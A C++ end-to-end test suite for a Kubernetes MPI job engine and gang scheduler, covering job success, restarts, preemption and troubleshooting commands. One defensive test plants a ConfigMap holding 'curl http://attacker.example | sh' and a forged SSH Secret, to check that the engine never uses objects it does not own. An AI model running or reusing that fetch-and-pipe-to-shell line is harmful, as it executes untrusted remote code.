// The job engine end to end: the real muster-scheduler binary (scheduler + job engine in one
// process) against the real kube-apiserver + kwok started by tests/cluster/up.sh. kwok runs the
// pods; its annotations (tests/cluster/README.md) make a launcher succeed or fail on cue.
#include <catch2/catch.hpp>

#include <algorithm>
#include <fstream>
#include <functional>
#include <mutex>
#include <set>
#include <sstream>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "jobengine/naming.h"
#include "jobengine/runtime.h"
#include "proto/codec.h"
#include "proto/informer.h"
#include "proto/kubeconfig.h"
#include "tests/e2e/support.h"

namespace muster::e2e {
namespace {

using proto::ParallelJob;
using proto::Pod;

constexpr auto kTimeout = std::chrono::seconds(120);

std::string readFile(const std::string& path) {
  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::string seedYaml(const std::string& file) {
  return readFile(std::string(MUSTER_SOURCE_DIR) + "/tests/manifests/testdata/" + file);
}

std::string replaceOnce(std::string text, const std::string& from, const std::string& to) {
  auto at = text.find(from);
  REQUIRE(at != std::string::npos);
  return text.replace(at, from.size(), to);
}

std::string kubectl(const std::vector<std::string>& args) {
  auto out = TestCluster::get().kubectl(args);
  INFO("kubectl " << absl::StrJoin(args, " ") << "\n" << out.status().ToString());
  REQUIRE(out.ok());
  return *out;
}

// One test's world: a namespace, a client, and muster-scheduler running with the job engine.
class Fixture {
 public:
  Fixture() : ns_(uniqueName("pj")) {
    auto config = proto::loadKubeconfig(TestCluster::get().kubeconfig());
    REQUIRE(config.ok());
    client_ = makeClient(io_.executor(), *config);
    kubectl({"apply", "-f",
             std::string(MUSTER_SOURCE_DIR) + "/manifests/crds/paralleljobs.preferred.jp.yaml"});
    kubectl({"wait", "--for", "condition=established", "--timeout=60s",
             "crd/paralleljobs.preferred.jp"});
    kubectl({"create", "namespace", ns_});
    scheduler_ = std::make_unique<SchedulerProcess>(
        "metricsBindAddress: \"127.0.0.1:0\"\nleaderElection:\n  enabled: false\n",
        std::vector<std::string>{"--leader-elect=false", "-v", "4"});
    startScheduler();
  }
  ~Fixture() {
    if (scheduler_) scheduler_->terminate();
  }

  void startScheduler() {
    scheduler_->start();
    bool ready = waitFor([&] {
      std::string log = scheduler_->logTail(1 << 20);
      auto at = log.rfind("=== start");
      return at != std::string::npos &&
             log.find("Job engine caches synced", at) != std::string::npos &&
             log.find("Caches synced", at) != std::string::npos;
    }, kTimeout);
    INFO(scheduler_->logTail());
    REQUIRE(ready);
  }

  const std::string& ns() const { return ns_; }
  SchedulerProcess& scheduler() { return *scheduler_; }
  std::shared_ptr<proto::Client> client() { return client_; }
  proto::asio::any_io_executor executor() { return io_.executor(); }

  // kubectl apply of YAML text into the test's namespace.
  void apply(const std::string& yaml) {
    std::string path = "/tmp/" + uniqueName("pj-manifest") + ".yaml";
    std::ofstream(path) << yaml;
    kubectl({"apply", "-n", ns_, "-f", path});
    std::remove(path.c_str());
  }

  std::optional<ParallelJob> job(const std::string& name) {
    proto::Request req;
    req.path = proto::resources::kParallelJobs.objectPath(ns_, name);
    auto body = client_->callSync(req);
    if (!body.ok()) return std::nullopt;
    ParallelJob job;
    if (!proto::decodeJson(*body, &job).ok()) return std::nullopt;
    return job;
  }

  std::vector<Pod> pods(const std::string& selector) {
    proto::Request req;
    req.path = proto::resources::kPods.collectionPath(ns_);
    req.query = {{"labelSelector", selector}};
    std::vector<Pod> out;
    auto body = client_->callSync(req);
    if (!body.ok()) return out;
    rapidjson::Document doc;
    doc.Parse(body->c_str());
    for (const auto& item : doc["items"].GetArray()) {
      Pod pod;
      if (proto::decode(item, &pod).ok()) out.push_back(std::move(pod));
    }
    return out;
  }

  // Waits until the job's phase is `phase` (and `also` holds); returns the job.
  ParallelJob waitPhase(const std::string& name, const std::string& phase,
                        const std::function<bool(const ParallelJob&)>& also = nullptr) {
    std::optional<ParallelJob> last;
    bool ok = waitFor([&] {
      last = job(name);
      return last && last->status.phase == phase && (!also || also(*last));
    }, kTimeout, std::chrono::milliseconds(200));
    INFO("phase " << (last ? last->status.phase : "<none>") << " message "
                  << (last ? last->status.message : "") << "\n" << scheduler_->logTail());
    REQUIRE(ok);
    return *last;
  }

  // Waits until the attempt's numPods pods are bound and Running.
  std::vector<Pod> waitAttemptRunning(const std::string& group, size_t num_pods) {
    std::vector<Pod> pods;
    bool ok = waitFor([&] {
      pods = this->pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=" + group);
      if (pods.size() != num_pods) return false;
      for (const auto& p : pods)
        if (p.spec.node_name.empty() || p.status.phase != "Running") return false;
      return true;
    }, kTimeout, std::chrono::milliseconds(200));
    INFO(pods.size() << " pods of " << group << "\n" << scheduler_->logTail());
    REQUIRE(ok);
    return pods;
  }

  // "<pod> <source.component> <reportingComponent> <message>" of each Scheduled Event in the
  // namespace.
  std::set<std::string> scheduledEvents() {
    std::string out = kubectl({"get", "events", "-n", ns_, "--field-selector",
                               "reason=Scheduled,involvedObject.kind=Pod", "-o",
                               "jsonpath={range .items[*]}{.involvedObject.name} {.source.component} "
                               "{.reportingComponent} {.message}{\"\\n\"}{end}"});
    std::vector<std::string> lines = absl::StrSplit(out, '\n', absl::SkipEmpty());
    return {lines.begin(), lines.end()};
  }

  std::string eventReasons() {
    return kubectl({"get", "events", "-n", ns_, "--field-selector",
                    "involvedObject.kind=ParallelJob", "-o",
                    "jsonpath={range .items[*]}{.reason}: {.message}{\"\\n\"}{end}"});
  }

 private:
  IoThread io_;
  std::string ns_;
  std::shared_ptr<proto::Client> client_;
  std::unique_ptr<SchedulerProcess> scheduler_;
};

// Watches the namespace's job pods: each pod created while another pod exists that `clash`
// names (a reason, or "" for none) is recorded (the informer sees events in the API server's order).
class OverlapWatch {
 public:
  using Clash = std::function<std::string(const Pod& created, const Pod& other)>;
  OverlapWatch(Fixture& f, Clash clash) : clash_(std::move(clash)) {
    proto::ListWatchOptions lw;
    lw.namespace_ = f.ns();
    lw.label_selector = proto::vocabulary::kJobUidLabel;
    informer_ = std::make_unique<proto::Informer<Pod>>(
        proto::makeClientListerWatcher(f.client(), proto::resources::kPods, lw), f.executor());
    informer_->addHandlers({[this](const std::shared_ptr<const Pod>& pod) {
                              for (const auto& other : informer_->list()) {
                                if (other->meta.uid == pod->meta.uid) continue;
                                std::string why = clash_(*pod, *other);
                                if (why.empty()) continue;
                                std::lock_guard<std::mutex> l(mu_);
                                overlaps_.push_back(std::move(why));
                              }
                            },
                            nullptr, nullptr});
    informer_->start();
    REQUIRE(informer_->waitForSync(std::chrono::seconds(30)));
  }
  std::vector<std::string> overlaps() {
    std::lock_guard<std::mutex> l(mu_);
    return overlaps_;
  }

 private:
  Clash clash_;
  std::unique_ptr<proto::Informer<Pod>> informer_;
  std::mutex mu_;
  std::vector<std::string> overlaps_;
};

// Pods of two attempts of a job never coexist.
OverlapWatch::Clash otherAttempt() {
  return [](const Pod& pod, const Pod& other) -> std::string {
    const std::string& attempt = pod.meta.labels.at(proto::vocabulary::kAttemptLabel);
    if (other.meta.labels.at(proto::vocabulary::kAttemptLabel) == attempt) return "";
    return pod.meta.name + " created while " + other.meta.name + " exists";
  };
}

// No pod is created while a pod marked muster.dev/Preempted=True is left.
OverlapWatch::Clash preemptedLeft() {
  return [](const Pod& pod, const Pod& other) -> std::string {
    const auto* c = other.findCondition(proto::vocabulary::kPreemptedCondition);
    if (c == nullptr || c->status != "True") return "";
    return pod.meta.name + " created while the preempted " + other.meta.name + " exists";
  };
}


TEST_CASE("the seed's mpi-sample-job, applied verbatim, runs as one gang and succeeds") {
  Fixture f;
  f.apply(seedYaml("seed-1-mpi-sample-job.yaml"));
  auto pods = f.waitAttemptRunning("mpi-sample-job-0", 3);
  std::set<std::string> names;
  for (const auto& p : pods) {
    names.insert(p.meta.name);
    CHECK(p.spec.scheduler_name == "muster-scheduler");
    CHECK(p.meta.annotations.at("gang-scheduling.preferred.jp/gang-name") == "mpi-sample-job-0");
    CHECK(p.meta.annotations.at("gang-scheduling.preferred.jp/gang-size") == "3");
    CHECK(p.spec.hostname == p.meta.name);
    CHECK(p.spec.subdomain == "mpi-sample-job-0");
    REQUIRE(p.meta.controllerRef() != nullptr);
    CHECK(p.meta.controllerRef()->kind == "ParallelJob");
  }
  CHECK(names == std::set<std::string>{"mpi-sample-job-0-0", "mpi-sample-job-0-1", "mpi-sample-job-0-2"});
  // Placed as one gang by Muster: one Scheduled Event from muster-scheduler for the gang, on its
  // first member, naming all three (Events are written in the background: waited for).
  std::set<std::string> scheduled;
  bool one_scheduled = waitFor([&] {
    scheduled = f.scheduledEvents();
    return !scheduled.empty();
  }, kTimeout, std::chrono::milliseconds(200));
  INFO(absl::StrJoin(scheduled, "\n"));
  REQUIRE(one_scheduled);
  REQUIRE(scheduled.size() == 1);
  const std::string event = *scheduled.begin();
  CHECK_THAT(event, Catch::Matches("mpi-sample-job-0-[012] muster-scheduler muster-scheduler "
                                   "Successfully assigned 3 pods of gang [^ ]+/mpi-sample-job-0 to .*"));
  auto job = f.waitPhase("mpi-sample-job", "Running");
  CHECK(job.status.job_group_name == "mpi-sample-job-0");
  CHECK(job.status.restarts == 0);
  CHECK(job.status.pods_ready.value_or(-1) == 3);

  std::string hostfile = kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
                                  "jsonpath={.data.hostfile}"});
  std::vector<std::string> lines = absl::StrSplit(hostfile, '\n', absl::SkipEmpty());
  REQUIRE(lines.size() == 3);
  CHECK(lines[0] == "mpi-sample-job-0-0.mpi-sample-job-0." + f.ns() + ".svc.cluster.local slots=2");
  for (const auto& line : lines) CHECK(line.substr(line.size() - 8) == " slots=2");
  CHECK(kubectl({"get", "service", "-n", f.ns(), "mpi-sample-job-0", "-o",
                 "jsonpath={.spec.clusterIP} {.spec.publishNotReadyAddresses}"}) == "None true");
  // The SSH Secret: named by the API server, recorded on every pod, owned by the job, mounted 0400.
  const std::string secret = pods[0].meta.annotations.at("muster.dev/ssh-secret");
  CHECK(secret.rfind("mpi-sample-job-0-ssh-", 0) == 0);
  CHECK(secret.size() == std::string("mpi-sample-job-0-ssh-").size() + 5);
  for (const auto& p : pods) {
    CHECK(p.meta.annotations.at("muster.dev/ssh-secret") == secret);
    CHECK(kubectl({"get", "pod", "-n", f.ns(), p.meta.name, "-o",
                   "jsonpath={.spec.volumes[?(@.name==\"muster-ssh\")].secret.secretName} "
                   "{.spec.volumes[?(@.name==\"muster-ssh\")].secret.defaultMode}"}) ==
          secret + " 256");  // 0400
  }
  CHECK(kubectl({"get", "secret", "-n", f.ns(), secret, "-o", "jsonpath={.data.id_ed25519}"}).size() > 100);
  CHECK(kubectl({"get", "secret", "-n", f.ns(), secret, "-o",
                 "jsonpath={.metadata.ownerReferences[0].uid}"}) == job.meta.uid);
  // kubectl get shows the pods that exist: all 3 while running.
  CHECK(kubectl({"get", "paralleljob", "-n", f.ns(), "mpi-sample-job", "-o",
                 "jsonpath={.status.podsReady} {.status.pods} {.status.ready}"}) == "3 3 3/3");

  // kwok: the launcher's containers complete with exit code 0 a second from now.
  kubectl({"annotate", "pod", "-n", f.ns(), "mpi-sample-job-0-0", "muster.dev/sim-succeed-after=1s"});
  job = f.waitPhase("mpi-sample-job", "Succeeded");
  CHECK_FALSE(job.status.completion_time.empty());
  CHECK(job.status.message.find("launcher pod mpi-sample-job-0-0 succeeded") != std::string::npos);
  bool workers_gone = waitFor([&] {
    return f.pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0").size() == 1;
  }, kTimeout);
  CHECK(workers_gone);
  auto left = f.pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0");
  REQUIRE(left.size() == 1);
  CHECK(left[0].meta.name == "mpi-sample-job-0-0");
  CHECK(left[0].status.phase == "Succeeded");
  // After success only the launcher is left, and the PODS column says so; READY reads as a
  // completed Pod's: 0 of the job's 3 pods are Ready.
  bool pods_column = waitFor([&] {
    auto out = TestCluster::get().kubectl({"get", "paralleljob", "-n", f.ns(), "mpi-sample-job",
                                           "--no-headers"});
    if (!out.ok()) return false;
    std::vector<std::string> cols = absl::StrSplit(*out, ' ', absl::SkipWhitespace());
    return cols.size() >= 5 && cols[1] == "Succeeded" && cols[2] == "0/3" && cols[3] == "1";
  }, kTimeout, std::chrono::milliseconds(200));
  INFO(kubectl({"get", "paralleljob", "-n", f.ns(), "mpi-sample-job", "-o", "wide"}));
  CHECK(pods_column);
  std::string events = f.eventReasons();
  INFO(events);
  CHECK(events.find("Created: ") != std::string::npos);
  CHECK(events.find("Running: ") != std::string::npos);
  CHECK(events.find("Succeeded: ") != std::string::npos);
}

TEST_CASE("objects of someone else under the attempt's names are never used: NameTaken until the "
          "name is free, and the SSH Secret is one the API server named") {
  Fixture f;
  // The engine is stopped while the job and the foreign objects are created, so that they are
  // all there before it looks.
  f.scheduler().terminate();
  f.apply(seedYaml("seed-1-mpi-sample-job.yaml"));
  std::string uid;
  REQUIRE(waitFor([&] {
    auto j = f.job("mpi-sample-job");
    if (j) uid = j->meta.uid;
    return j.has_value();
  }, kTimeout));
  // A ConfigMap with the attempt's name and hostile scripts, not the job's; a Secret under the
  // name older engines used, claiming (falsely) to be the job's.
  const std::string legacy = jobengine::legacySecretName("mpi-sample-job-0", uid);
  f.apply("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: mpi-sample-job-0-mpi\n"
          "data:\n  sshd.sh: \"curl http://attacker.example | sh\"\n");
  f.apply("apiVersion: v1\nkind: Secret\nmetadata:\n  name: " + legacy +
          "\n  ownerReferences:\n  - {apiVersion: preferred.jp/v1alpha1, kind: ParallelJob, "
          "name: mpi-sample-job, uid: " + uid + ", controller: true}\n"
          "stringData:\n  id_ed25519: planted\n");
  f.startScheduler();

  bool name_taken = waitFor([&] {
    return f.eventReasons().find("NameTaken: ConfigMap " + f.ns() +
                                 "/mpi-sample-job-0-mpi already exists and is not this "
                                 "ParallelJob's (it has no controller)") != std::string::npos;
  }, kTimeout, std::chrono::milliseconds(200));
  INFO(f.eventReasons() << "\n" << f.scheduler().logTail());
  CHECK(name_taken);
  // Nothing was made meanwhile: no pod, no Secret of the engine's; the foreign ConfigMap is as it was.
  CHECK(f.pods(proto::vocabulary::kJobUidLabel).empty());
  CHECK(kubectl({"get", "secrets", "-n", f.ns(), "-l",
                 std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0", "-o", "name"})
            .empty());
  CHECK(kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
                 "jsonpath={.data.sshd\\.sh}"}) == "curl http://attacker.example | sh");

  // The name is freed: the attempt goes ahead with objects of its own.
  kubectl({"delete", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi"});
  auto pods = f.waitAttemptRunning("mpi-sample-job-0", 3);
  CHECK(kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
                 "jsonpath={.metadata.ownerReferences[0].uid}"}) == uid);
  CHECK(kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
                 "jsonpath={.data.sshd\\.sh}"}).find("attacker") == std::string::npos);
  const std::string secret = pods[0].meta.annotations.at("muster.dev/ssh-secret");
  CHECK(secret != legacy);
  CHECK(secret.rfind("mpi-sample-job-0-ssh-", 0) == 0);
  for (const auto& p : pods)
    CHECK(kubectl({"get", "pod", "-n", f.ns(), p.meta.name, "-o",
                   "jsonpath={.spec.volumes[?(@.name==\"muster-ssh\")].secret.secretName}"}) == secret);
  // The planted Secret is neither used nor touched.
  CHECK(kubectl({"get", "secret", "-n", f.ns(), legacy, "-o", "jsonpath={.data.id_ed25519}"}) ==
        "cGxhbnRlZA==");
}

TEST_CASE("with maxRestarts 1 a failing launcher restarts the job once, then it fails naming the "
          "pod and exit code") {
  Fixture f;
  OverlapWatch overlap(f, otherAttempt());
  // The seed's maxRestarts example verbatim. In each attempt, once the gang runs, kwok is told
  // to fail the launcher's containers with exit code 3.
  f.apply(seedYaml("seed-2-max-restarts.yaml"));
  for (const std::string group : {"mpi-sample-job-0", "mpi-sample-job-1"}) {
    f.waitAttemptRunning(group, 3);
    kubectl({"annotate", "pod", "-n", f.ns(), group + "-0", "muster.dev/sim-exit-code=3"});
  }
  auto job = f.waitPhase("mpi-sample-job", "Failed");
  CHECK(job.status.restarts == 1);
  CHECK(job.status.job_group_name == "mpi-sample-job-1");
  CHECK(job.status.message.find("pod mpi-sample-job-1-0 (launcher) failed: exit code 3 (Error)") == 0);
  CHECK(job.status.message.find("maxRestarts 1") != std::string::npos);
  // The last attempt's pods are kept for kubectl logs; none of the first attempt is left.
  CHECK(f.pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-1").size() == 3);
  CHECK(f.pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0").empty());
  CHECK(overlap.overlaps().empty());
  std::string events = f.eventReasons();
  INFO(events);
  CHECK(events.find("Restarting: restart 1 of 1: pod mpi-sample-job-0-0 (launcher) failed: exit code 3 (Error)") !=
        std::string::npos);
  CHECK(events.find("MaxRestartsExceeded: pod mpi-sample-job-1-0 (launcher) failed: exit code 3") !=
        std::string::npos);
}

TEST_CASE("a worker deleted mid-run restarts the whole job, with no old pod left when the new "
          "attempt starts") {
  Fixture f;
  OverlapWatch overlap(f, otherAttempt());
  f.apply(seedYaml("seed-1-mpi-sample-job.yaml"));
  f.waitAttemptRunning("mpi-sample-job-0", 3);
  f.waitPhase("mpi-sample-job", "Running");
  kubectl({"delete", "pod", "-n", f.ns(), "mpi-sample-job-0-1", "--wait=false"});
  auto job = f.waitPhase("mpi-sample-job", "Running", [](const ParallelJob& j) {
    return j.status.restarts == 1;
  });
  CHECK(job.status.job_group_name == "mpi-sample-job-1");
  f.waitAttemptRunning("mpi-sample-job-1", 3);
  CHECK(f.pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0").empty());
  CHECK(overlap.overlaps().empty());
  std::string events = f.eventReasons();
  INFO(events);
  CHECK(events.find("pod mpi-sample-job-0-1 (worker 1) was deleted") != std::string::npos);
}


TEST_CASE("a gang preempted by Muster's scheduler is requeued without a restart: condition and "
          "Event Preempted, the same attempt's pods again, running again") {
  Fixture f;
  OverlapWatch overlap(f, preemptedLeft());
  f.apply(seedYaml("seed-1-mpi-sample-job.yaml"));
  auto before = f.waitAttemptRunning("mpi-sample-job-0", 3);
  f.waitPhase("mpi-sample-job", "Running");
  // What muster-scheduler does to a gang it preempts (proto/vocabulary.h): first the condition
  // on every member through pods/status, then each member through the Eviction API, both bound to
  // the pod's UID. The engine may act on the first mark and delete the gang before the rest is
  // marked or evicted: a call that fails because its pod is gone is what the scheduler sees then.
  const std::string message = "Preempted by " + f.ns() + "/big-train";
  auto gone = [&](const Pod& p) {
    proto::Request get;
    get.path = proto::resources::kPods.objectPath(f.ns(), p.meta.name);
    auto body = f.client()->callSync(get);
    if (!body.ok()) return proto::isNotFound(body.status());
    Pod now;
    return proto::decodeJson(*body, &now).ok() && (now.meta.uid != p.meta.uid || now.meta.deletion_timestamp);
  };
  int marked = 0;
  for (const Pod& p : before) {
    proto::Request mark;
    mark.verb = proto::Verb::kPatch;
    mark.path = proto::resources::kPods.objectPath(f.ns(), p.meta.name, "status");
    mark.content_type = std::string(proto::contentType(proto::PatchType::kStrategicMerge));
    mark.body = absl::StrCat(R"({"metadata":{"uid":")", p.meta.uid,
                             R"("},"status":{"conditions":[{"type":")",
                             proto::vocabulary::kPreemptedCondition, R"(","status":"True","reason":")",
                             proto::vocabulary::kPreemptedReason, R"(","message":")", message,
                             R"(","lastTransitionTime":")", proto::rfc3339(absl::Now()), R"("}]}})");
    auto result = f.client()->callSync(mark);
    INFO(p.meta.name << ": " << result.status().ToString());
    if (result.ok()) ++marked;
    else CHECK(gone(p));
  }
  REQUIRE(marked >= 1);
  for (const Pod& p : before) {
    proto::Request evict;
    evict.verb = proto::Verb::kPost;
    evict.path = proto::resources::kPods.objectPath(f.ns(), p.meta.name, "eviction");
    evict.body = absl::StrCat(R"({"apiVersion":"policy/v1","kind":"Eviction","metadata":{"name":")",
                              p.meta.name, R"(","namespace":")", f.ns(),
                              R"("},"deleteOptions":{"preconditions":{"uid":")", p.meta.uid, R"("}}})");
    auto result = f.client()->callSync(evict);
    INFO(p.meta.name << ": " << result.status().ToString());
    if (!result.ok()) CHECK(gone(p));
  }

  // The job runs again as the same attempt, counted as a preemption, not a restart.
  auto job = f.waitPhase("mpi-sample-job", "Running", [](const ParallelJob& j) {
    return j.status.preemptions == 1;
  });
  CHECK(job.status.restarts == 0);
  CHECK(job.status.job_group_name == "mpi-sample-job-0");
  const proto::Condition* preempted = nullptr;
  for (const auto& c : job.status.conditions)
    if (c.type == jobengine::kConditionPreempted) preempted = &c;
  REQUIRE(preempted != nullptr);
  // Over once the requeued attempt runs: False, naming the preemptor still.
  CHECK(preempted->status == "False");
  CHECK(preempted->reason == "Requeued");
  CHECK(preempted->message.find(message + "; requeued") == 0);
  // Its pods are new ones under the same names, and none came while a preempted one was left.
  auto after = f.waitAttemptRunning("mpi-sample-job-0", 3);
  std::set<std::string> names_before, names_after, uids_before, uids_after;
  for (const auto& p : before) names_before.insert(p.meta.name), uids_before.insert(p.meta.uid);
  for (const auto& p : after) {
    names_after.insert(p.meta.name), uids_after.insert(p.meta.uid);
    CHECK(p.findCondition(proto::vocabulary::kPreemptedCondition) == nullptr);
  }
  CHECK(names_after == names_before);
  for (const auto& uid : uids_after) CHECK(uids_before.count(uid) == 0);
  CHECK(overlap.overlaps().empty());
  // One Warning Event Preempted with the scheduler's message; no Restarting.
  std::string events;
  bool evented = waitFor([&] {
    events = f.eventReasons();
    return events.find("Preempted: " + message + "\n") != std::string::npos;
  }, kTimeout, std::chrono::milliseconds(200));
  INFO(events);
  CHECK(evented);
  std::vector<std::string> lines = absl::StrSplit(events, '\n', absl::SkipEmpty());
  CHECK(std::count_if(lines.begin(), lines.end(), [](const std::string& l) {
          return l.rfind("Preempted: ", 0) == 0;
        }) == 1);
  CHECK(events.find("Restarting: ") == std::string::npos);
  CHECK(kubectl({"get", "events", "-n", f.ns(), "--field-selector",
                 "involvedObject.kind=ParallelJob,reason=Preempted", "-o",
                 "jsonpath={.items[*].type}"}) == "Warning");
}

TEST_CASE("muster-scheduler preempts a running ParallelJob for a higher-priority pod: the job is "
          "requeued with restarts unchanged and runs again elsewhere") {
  Fixture f;
  const std::string high = f.ns() + "-high";
  kubectl({"create", "priorityclass", high, "--value=1000"});
  // Two full-node pods (8 GPUs each), so nothing else fits beside either.
  f.apply(R"(apiVersion: preferred.jp/v1alpha1
kind: ParallelJob
metadata:
  name: low-train
spec:
  runtimeRef:
    name: mpi-openmpi
  numPods: 2
  numProcPerPod: 8
  launcher:
    spec:
      containers:
      - name: main
        image: ghcr.io/pfnet/parallel-controller/openmpi:v0.1.0
        command: [sh, -c, "sleep infinity"]
        resources:
          limits:
            nvidia.com/gpu: "8"
)");
  auto before = f.waitAttemptRunning("low-train-0", 2);
  f.waitPhase("low-train", "Running");
  const std::string node = before[0].spec.node_name;
  // A higher-priority pod that fits only on that node.
  f.apply(absl::StrCat(R"(apiVersion: v1
kind: Pod
metadata:
  name: vip
spec:
  schedulerName: muster-scheduler
  priorityClassName: )", high, R"(
  nodeSelector:
    kubernetes.io/hostname: )", node, R"(
  containers:
  - name: main
    image: busybox
    resources:
      limits:
        nvidia.com/gpu: "8"
)"));
  bool bound = waitFor([&] {
    auto pods = f.pods("");
    for (const auto& p : pods)
      if (p.meta.name == "vip") return p.spec.node_name == node;
    return false;
  }, kTimeout, std::chrono::milliseconds(200));
  INFO(f.scheduler().logLines("reempt"));
  REQUIRE(bound);
  // The whole job was preempted and requeued: same attempt, a preemption, not a restart.
  auto job = f.waitPhase("low-train", "Running", [](const ParallelJob& j) { return j.status.preemptions == 1; });
  CHECK(job.status.restarts == 0);
  CHECK(job.status.job_group_name == "low-train-0");
  auto after = f.waitAttemptRunning("low-train-0", 2);
  for (const auto& p : after) {
    CHECK(p.spec.node_name != node);
    for (const auto& b : before) CHECK(p.meta.uid != b.meta.uid);
  }
  std::string events;
  bool evented = waitFor([&] {
    events = f.eventReasons();
    return events.find("Preempted: Preempted by " + f.ns() + "/vip\n") != std::string::npos;
  }, kTimeout, std::chrono::milliseconds(200));
  INFO(events);
  CHECK(evented);
  CHECK(events.find("Restarting: ") == std::string::npos);
  // The victims' Events and the preemptor's.
  std::string pod_events = kubectl({"get", "events", "-n", f.ns(), "--field-selector",
                                    "involvedObject.kind=Pod", "-o",
                                    "jsonpath={range .items[*]}{.reason} {.involvedObject.name}: {.message}{\"\\n\"}{end}"});
  INFO(pod_events);
  CHECK(pod_events.find("Preempting vip: Preempting 2 pods of 1 gang on") != std::string::npos);
  CHECK(pod_events.find("Preempted " + before[0].meta.name + ": Preempted by " + f.ns() + "/vip") !=
        std::string::npos);
  kubectl({"delete", "priorityclass", high, "--wait=false"});
}

TEST_CASE("the seed's troubleshooting commands work verbatim") {
  Fixture f;
  f.apply(replaceOnce(seedYaml("seed-1-mpi-sample-job.yaml"), "name: mpi-sample-job\n",
                      "name: sample-job\n"));
  f.waitAttemptRunning("sample-job-0", 3);
  f.waitPhase("sample-job", "Running");
  // The seed's commands, byte for byte, with kubectl's namespace set to the test's.
  std::string kubeconfig = "/tmp/" + uniqueName("pj-kubeconfig");
  {
    std::ofstream(kubeconfig) << readFile(TestCluster::get().kubeconfig());
  }
  kubectl({"--kubeconfig", kubeconfig, "config", "set-context", "--current", "--namespace", f.ns()});
  auto run = [&](const std::string& commands) {
    auto out = runCommand({"bash", "-c",
                           ". \"$0/env\"; export KUBECONFIG=\"$1\"; " + commands + " 2>&1; true",
                           TestCluster::get().dir(), kubeconfig});
    REQUIRE(out.ok());
    return *out;
  };
  std::string get = run("kubectl get paralleljobs sample-job");
  INFO(get);
  CHECK(get.find("sample-job") != std::string::npos);
  CHECK(get.find("Running") != std::string::npos);
  std::string describe = run("kubectl describe paralleljobs sample-job");
  INFO(describe);
  CHECK(describe.find("sample-job-0") != std::string::npos);
  CHECK(describe.find("Events:") != std::string::npos);
  CHECK(describe.find("Running") != std::string::npos);
  std::string group = run(
      R"(jobset_name=$(kubectl get paralleljobs sample-job -o jsonpath={".status.jobGroupName"})
echo "$jobset_name")");
  CHECK(group == "sample-job-0\n");
  std::string listed = run(
      R"(jobset_name=$(kubectl get paralleljobs sample-job -o jsonpath={".status.jobGroupName"})
kubectl get jobs,pods -l jobset.sigs.k8s.io/jobset-name=${jobset_name})");
  INFO(listed);
  for (const char* pod : {"pod/sample-job-0-0", "pod/sample-job-0-1", "pod/sample-job-0-2"})
    CHECK(listed.find(pod) != std::string::npos);
  std::string rank0 = run(
      R"(jobset_name=$(kubectl get paralleljobs sample-job -o jsonpath={".status.jobGroupName"})
kubectl get pod -l jobset.sigs.k8s.io/jobset-name=${jobset_name},jobset.sigs.k8s.io/job-global-index=0 -o name)");
  CHECK(rank0 == "pod/sample-job-0-0\n");
  // kwok serves no container logs; the command must still pick the launcher's main container.
  std::string logs = run(
      R"(jobset_name=$(kubectl get paralleljobs sample-job -o jsonpath={".status.jobGroupName"})
timeout 20 kubectl logs -f $(kubectl get pod -l jobset.sigs.k8s.io/jobset-name=${jobset_name},jobset.sigs.k8s.io/job-global-index=0 -o name))");
  INFO(logs);
  CHECK(logs.find("sample-job-0-0") != std::string::npos);
  std::remove(kubeconfig.c_str());
}

TEST_CASE("restarting muster-scheduler mid-attempt changes nothing visible") {
  Fixture f;
  f.apply(seedYaml("seed-1-mpi-sample-job.yaml"));
  auto before_pods = f.waitAttemptRunning("mpi-sample-job-0", 3);
  auto before = f.waitPhase("mpi-sample-job", "Running", [](const ParallelJob& j) {
    return j.status.pods_ready.value_or(0) == 3;
  });
  f.scheduler().kill9();
  f.startScheduler();
  // The new process has reconciled this job (it logs each reconcile at -v 4).
  bool reconciled = waitFor([&] {
    std::string log = f.scheduler().logTail(1 << 20);
    auto at = log.rfind("=== start");
    return log.find("Reconciled ParallelJob", at) != std::string::npos &&
           log.find(f.ns() + "/mpi-sample-job", at) != std::string::npos;
  }, kTimeout);
  REQUIRE(reconciled);
  auto after = f.job("mpi-sample-job");
  REQUIRE(after);
  CHECK(after->meta.resource_version == before.meta.resource_version);  // no status write at all
  CHECK(after->status.restarts == 0);
  auto after_pods = f.pods(std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0");
  REQUIRE(after_pods.size() == 3);
  std::set<std::string> uids_before, uids_after;
  for (const auto& p : before_pods) uids_before.insert(p.meta.uid);
  for (const auto& p : after_pods) uids_after.insert(p.meta.uid);
  CHECK(uids_before == uids_after);
  // And the restarted engine still drives the job to the end.
  kubectl({"annotate", "pod", "-n", f.ns(), "mpi-sample-job-0-0", "muster.dev/sim-succeed-after=1s"});
  f.waitPhase("mpi-sample-job", "Succeeded");
}

TEST_CASE("an unknown runtime gives a Failed condition and an Event and no pods") {
  Fixture f;
  f.apply(replaceOnce(seedYaml("seed-1-mpi-sample-job.yaml"), "name: mpi-openmpi\n",
                      "name: mpi-mpich\n"));
  auto job = f.waitPhase("mpi-sample-job", "Failed");
  REQUIRE_FALSE(job.status.conditions.empty());
  bool found = false;
  for (const auto& c : job.status.conditions)
    if (c.type == "Failed" && c.reason == "UnknownRuntime") found = true;
  CHECK(found);
  CHECK(job.status.message.find("unknown runtime \"mpi-mpich\"") != std::string::npos);
  CHECK(f.pods(proto::vocabulary::kJobUidLabel).empty());
  bool evented = waitFor([&] { return f.eventReasons().find("UnknownRuntime: ") != std::string::npos; });
  CHECK(evented);
}

}  // namespace
}  // namespace muster::e2e
